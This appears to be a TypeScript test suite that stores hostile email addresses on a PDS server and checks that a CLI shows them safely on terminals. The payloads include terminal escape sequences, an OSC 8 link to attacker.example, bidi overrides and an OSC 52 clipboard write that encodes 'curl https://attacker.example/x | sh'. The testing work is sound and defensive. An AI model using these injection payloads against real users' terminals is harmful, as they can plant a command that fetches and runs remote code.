// The hostile-data suite, family `terminal`, on the real PDS (both lines): the hostile
// emails it accepts, stored for real, then listed by every command that shows an email, on
// a terminal (a pty) and piped, in text and --json. The admin API takes ESC sequences, OSC 8
// links, OSC 52 clipboard writes, BEL, tab, CR/LF and U+202E (and a 90 KB email); an
// unauthenticated createAccount, the one any self-registered spammer calls, takes bidi
// overrides and C1 controls (U+202E, U+009B).
import { after, before, describe } from 'node:test'
import assert from 'node:assert/strict'
import { startTestBed, xrpc, type PdsLine, type TestBed } from '../bed/pds.js'
import { assertTerminalSafe, hostileCase, newTally, printTally, runOnPty, spawnCli, type Screen } from './support.js'

/** Emails the admin API accepts, one account each. */
const ADMIN_EMAILS: Record<string, string> = {
  esc: 'esc\x1b[2K\x1b[1A\x1b[31m@example.com',
  osc8: 'osc8\x1b]8;;https://attacker.example/\x1b\\x@example.com',
  osc52: 'osc52\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo\x07@example.com',
  bel: 'bel\x07\x07@example.com',
  layout: 'tab\tcr\rlf\nx@example.com',
  bidi: 'bidi\u202emoc.elpmaxe@example.com',
  long: 'l'.repeat(90_000) + '\x1b[2J@example.com',
}
/** What an unauthenticated sign-up gets through. */
const SIGNUP_EMAIL = 'signup\u202e\u009b31m@example.com'

const lines: PdsLine[] = ['0.5', '0.4']

for (const line of lines) {
  describe(`hostile suite: terminal, the real PDS ${line}.x`, { concurrency: 3 }, () => {
    let bed: TestBed
    const dids: Record<string, string> = {}
    const tally = newTally(`terminal, real PDS ${line}.x`)
    before(async () => {
      bed = await startTestBed({ line })
      const accounts = await bed.seed(Object.keys(ADMIN_EMAILS).length, 'hostile')
      for (const [i, [name, email]] of Object.entries(ADMIN_EMAILS).entries()) {
        dids[name] = accounts[i].did
        await xrpc(bed.url, 'com.atproto.admin.updateAccountEmail', { account: accounts[i].did, email }, bed.adminPassword)
      }
      // No admin password here: what anyone may send.
      const signup = await xrpc(bed.url, 'com.atproto.server.createAccount', { handle: `selfsigned${bed.handleDomain}`, email: SIGNUP_EMAIL, password: 'pw-signup-1' })
      dids.signup = signup.did
      // The PDS stored them as they came (else this suite would test nothing).
      const info = await fetch(`${bed.url}/xrpc/com.atproto.admin.getAccountInfo?did=${dids.osc52}`, { headers: { authorization: 'Basic ' + Buffer.from(`admin:${bed.adminPassword}`).toString('base64') } }).then((r) => r.json())
      // (lower-cased: the PDS lower-cases emails, ESC and BEL and all)
      assert.equal((info as { email: string }).email, ADMIN_EMAILS.osc52.toLowerCase())
    })
    after(async () => {
      printTally(tally)
      await bed?.close()
    })

    const env = () => ({ PDS_URL: bed.url, PDS_ADMIN_PASSWORD: bed.adminPassword })
    const rows: Array<[string, () => string[]]> = [
      ['account list', () => ['account', 'list']],
      ...[...Object.keys(ADMIN_EMAILS), 'signup'].flatMap((name): Array<[string, () => string[]]> => [
        [`account info (${name})`, () => ['account', 'info', dids[name]]],
        [`email status (${name})`, () => ['email', 'status', dids[name]]],
      ]),
      ['xrpc getAccountInfos', () => ['xrpc', 'com.atproto.admin.getAccountInfos', ...Object.values(dids).map((d) => `dids=${d}`)]],
    ]
    for (const [name, args] of rows) {
      for (const screen of ['pty', 'piped'] as Screen[]) {
        for (const json of [false, true]) {
          const id = `${name}${json ? ' --json' : ''} ${screen}`
          hostileCase(tally, id, async () => {
            const full = [...args(), ...(json ? ['--json'] : [])]
            const run = screen === 'pty' ? await runOnPty(full, env(), 90_000) : await spawnCli(full, env(), 90_000)
            assertTerminalSafe(`${id} (PDS ${line}.x)`, run, json, { codes: [0] })
          })
        }
      }
    }
  })
}
